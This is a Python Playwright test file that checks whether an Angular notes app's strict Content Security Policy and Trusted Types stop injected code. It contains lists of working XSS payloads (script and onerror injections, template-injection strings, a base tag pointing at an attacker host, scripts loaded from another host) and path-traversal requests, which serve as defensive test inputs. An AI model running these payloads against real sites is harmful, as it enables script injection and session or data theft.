"""The strict policy as a real header: it costs the application nothing, and stops what would run."""

import json

from playwright.sync_api import expect

import lane
from notebook_world import ROOT, SHIPPED

VECTORS = ROOT.parent / "shared/vectors/blns.json"
SHARP = [
    "<script>window.attacked=1</script>", "<img src=x onerror=window.attacked=1>", "\"><svg onload=window.attacked=1>", "javascript:window.attacked=1",
    "{{constructor.constructor('window.attacked=1')()}}", "{{$any(1).constructor.constructor('window.attacked=1')()}}", "${window.attacked=1}",
    "</textarea><script>window.attacked=1</script>", "<iframe srcdoc=\"<script>parent.attacked=1</script>\">", "<base href=https://attacker.test/>",
    "<math><mtext><img src=x onerror=window.attacked=1>", "&lt;script&gt;", "\u202eabc", "<a href=javascript:window.attacked=1>x</a>", "{$INTERPOLATION}", "\ufffd0\ufffd",
    "@if (true) {x}", "[innerHTML]", "*ngIf", "constructor", "__proto__", "<style>*{display:none}</style>", "\" style=\"position:fixed\" x=\"",
]
# Each tries to run something, by a door of its own.
ATTACKS = {
    "an inline script": "() => { const one = document.createElement('script'); one.append('window.attacked = 1'); document.body.append(one); }",
    "a script from elsewhere": "async url => { const one = document.createElement('script'); one.src = url; document.body.append(one); await new Promise(done => { one.onload = one.onerror = done; setTimeout(done, 500); }); }",
    "HTML by a string": "() => { document.createElement('div').innerHTML = '<img src=x onerror=window.attacked=1>'; }",
    "outer HTML": "() => { const one = document.createElement('p'); document.body.append(one); one.outerHTML = '<img src=x onerror=window.attacked=1>'; }",
    "document.write": "() => { document.write('<script>window.attacked=1</' + 'script>'); }",
    "an inline handler": "() => { const one = document.createElement('button'); one.setAttribute('onclick', 'window.attacked=1'); document.body.append(one); one.click(); }",
    "a javascript link": "() => { const one = document.createElement('a'); one.setAttribute('href', 'javascript:window.attacked=1'); document.body.append(one); one.click(); }",
    "a policy of its own": "() => { trustedTypes.createPolicy('mine', { createHTML: text => text }); }",
    "a frame": "() => { const one = document.createElement('iframe'); one.srcdoc = 'x'; document.body.append(one); }",
    "an inline style": "() => { const one = document.createElement('style'); one.append('body { color: rgb(1, 2, 3) }'); document.head.append(one); }",
    "a request to elsewhere": "async url => { await fetch(url).catch(() => {}); }",
    "a form to elsewhere": "url => { const one = document.createElement('form'); one.action = url; document.body.append(one); one.submit(); }",
    "a worker": "() => { new Worker('data:text/javascript,postMessage(1)'); }",
}
# The elements of the page but for those of its notes, and those of each note.
SKELETON = "() => [...document.querySelectorAll('main *:not(.note, .note *)')].map(one => one.tagName)"
SKELETONS_OF_NOTES = "() => [...document.querySelectorAll('.note')].map(note => [...note.querySelectorAll('*')].map(one => one.tagName))"
PAGES = ["/", "/profile", "/sessions", "/token", "/storage", "/erase", "/confirm", "/admin", "/nowhere", "/denied"]


@lane.long("the gate injects code into one page; every theme and language is a sweep")
def no_page_violates_the_policy_in_any_theme_and_language(world):
    for language in ("", "/de", "/en-XA"):
        with world.profile() as profile:
            person = profile.notebook(world.app.url + language)
            person.open("/register")
            expect(person.page.locator("#user-name")).to_be_visible()
            name = world.admin()
            person.open("/login").page.fill("#identifier", name)
            person.fill(password=world.tessera.password).page.click("form button")
            expect(person.page.locator(".who")).to_contain_text(name)
            person.fill(title="<b>bold</b>", text="x").page.click(".composer button")
            person.page.click(".note h2 a")
            expect(person.page.locator("#text")).to_be_visible()
            for theme in ("light", "dark", "auto"):
                for path in PAGES if theme == "light" else PAGES[:2]:
                    person.open(path)
                    expect(person.page.locator("main h1")).to_be_visible()
                    person.page.click("summary.button")
                    person.page.check(f"input[name=theme][value={theme}]")
                    assert person.run("() => document.documentElement.dataset.theme") == theme
                    person.look_for_tokens()


def injected_code_is_stopped_whichever_way_it_comes(world):
    world.elsewhere.documents["/evil.js"] = "window.attacked = 1"
    with world.profile() as profile:
        profile.expects("Content Security Policy", "violates", "TrustedHTML", "Trusted", "Refused", "blocked", "Failed to load", "Applying inline", "Executing inline",
                        "Running the JavaScript URL", "Sending form data", "Framing", "Creating a", "requires")
        person = profile.notebook()
        person.sign_in()
        for name, attack in ATTACKS.items():
            person.open("/").shows("Notes")
            try:
                person.run(attack, f"{world.elsewhere.url}/evil.js")
            except Exception as error:  # a sink that throws has stopped it, too
                assert "Trust" in str(error) or "policy" in str(error).lower() or "SecurityError" in str(error) or "context" in str(error), (name, error)
            person.page.wait_for_timeout(60)
            assert person.run("() => window.attacked") is None, name
            assert person.run("() => violations.length") > 0, f"{name}: nothing was stopped"
            person.run("() => { violations.length = 0; }")
        assert person.run("() => getComputedStyle(document.body).color") != "rgb(1, 2, 3)"
        assert "/evil.js" not in world.elsewhere.asked
        profile.violations.clear()
        profile.said.clear()


def a_bypass_an_inline_style_or_a_component_style_is_noticed(world):
    """What proves that no page violates the policy finds each of the ways in which a careless change would."""
    for kind, directive in (("bypass", "trusted-types"), ("inlineStyle", "style-src-attr"), ("componentStyle", "style-src-elem")):
        try:
            with world.profile() as profile:
                person = profile.notebook(world.lab.url).open("/token").shows("Token")
                person.look_for_tokens()
                assert profile.violations == [], profile.violations
                # Angular throws at a sink that the policy has closed.
                person.run("kind => lab.spoil(kind).catch(() => {})", kind)
                person.look_for_tokens()
                noticed = list(profile.violations)
        except AssertionError as error:
            assert "Content Security Policy" in str(error) or directive in str(error), (kind, error)
            assert any(one.startswith(directive) for one in noticed), (kind, noticed)
        else:
            raise AssertionError(f"{kind}: nothing was noticed")


@lane.long("a sweep of texts; one is in the gate")
def texts_that_broke_other_programs_are_shown_as_texts(world):
    texts = list(dict.fromkeys([*SHARP, *(json.loads(VECTORS.read_text(encoding="utf-8")) if VECTORS.is_file() else [])]))
    texts = [text for text in texts if text and 0 < len(text.encode("utf-8", "replace")) <= 200][:200]
    with world.profile() as profile:
        person = profile.notebook()
        name = person.sign_in()
        token = world.tessera.sign_in(name)["access_token"]
        # The form of a page with one harmless note, and of that note.
        _note(world, token, "plain")
        person.open("/").shows("Notes")
        expect(person.page.locator(".note")).to_have_count(1)
        around, (harmless,) = person.run(SKELETON), person.run(SKELETONS_OF_NOTES)
        kept = ["plain"]
        for text in texts[:94]:
            try:
                made = _note(world, token, text)
            except OSError:
                continue  # no title at all, such as one of a lone surrogate
            kept.append(made["title"])
        assert len(kept) > 60, len(kept)
        person.open("/").shows("Notes")
        expect(person.page.locator(".note")).to_have_count(len(kept))
        shown = person.run("() => [...document.querySelectorAll('.note h2')].map(one => one.textContent)")
        assert shown == kept[::-1]
        assert person.run(SKELETON) == around, "a text became an element"
        for title, skeleton in zip(kept[::-1], person.run(SKELETONS_OF_NOTES), strict=True):
            assert skeleton == harmless, f"{title!r} became an element: {skeleton}"
        assert person.page.locator("main script, main img, main iframe, main style, main svg").count() == 0
        for text in SHARP[:6]:
            world.tessera.call("/auth/me", {"display_name": text}, token=token, method="PATCH")
            person.page.reload()
            expect(person.page.locator(".who")).to_contain_text(text.strip())
            person.page.reload()
        person.open("/token").shows("Token")
        import base64
        part = lambda value: base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
        person.fill(pasted=f"{part(dict.fromkeys(SHARP, 'x'))}.{part({f'c{index}': text for index, text in enumerate(SHARP)})}.AA")
        expect(person.page.locator("[data-claims]")).to_contain_text(SHARP[0])
        expect(person.page.locator("[data-header]")).to_contain_text(SHARP[1])
        assert person.run("() => window.attacked") is None


def the_headers_of_every_answer_are_those_of_the_file(world):
    import urllib.request

    rules = json.loads((ROOT / "Examples/angular/headers.json").read_text())
    hashed = next(file.name for file in SHIPPED.glob("main-*.js"))
    for path, kind in (("/", "page"), ("/login", "page"), ("/de/sessions", "page"), ("/config.json", "page"), (f"/{hashed}", "hashed"), ("/icon.svg", "page")):
        with urllib.request.urlopen(world.app.url + path) as answer:
            for name, value in {**rules["every"], **rules[kind]}.items():
                wanted = value.replace("{issuer}", world.proxy.url).replace("{api}", world.api.url)
                assert answer.headers[name] == wanted, (path, name, answer.headers[name])
    policy = rules["every"]["Content-Security-Policy"]
    for word in ("unsafe-", "*", "nonce-", "data:", "blob:"):
        assert word not in policy, word
    for page in (SHIPPED / "index.html", SHIPPED / "de/index.html"):
        text = page.read_text()
        assert "style=" not in text and "<style" not in text and "onload=" not in text and "<script>" not in text, page
    for path in ("/../package.json", "/%2e%2e/package.json", "/..%2fpackage.json", "/missing.js", "/%00", "/%"):
        try:
            with urllib.request.urlopen(world.app.url + path) as answer:
                assert "<app-root" in answer.read().decode(), path
        except urllib.error.HTTPError as error:
            assert error.code in (400, 404), (path, error.code)


def _note(world, token, title):
    import urllib.request

    request = urllib.request.Request(f"{world.notes.url}/notes", json.dumps({"title": title, "text": title}).encode(),
                                     {"Authorization": f"Bearer {token}", "Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=20) as answer:
        return json.loads(answer.read())
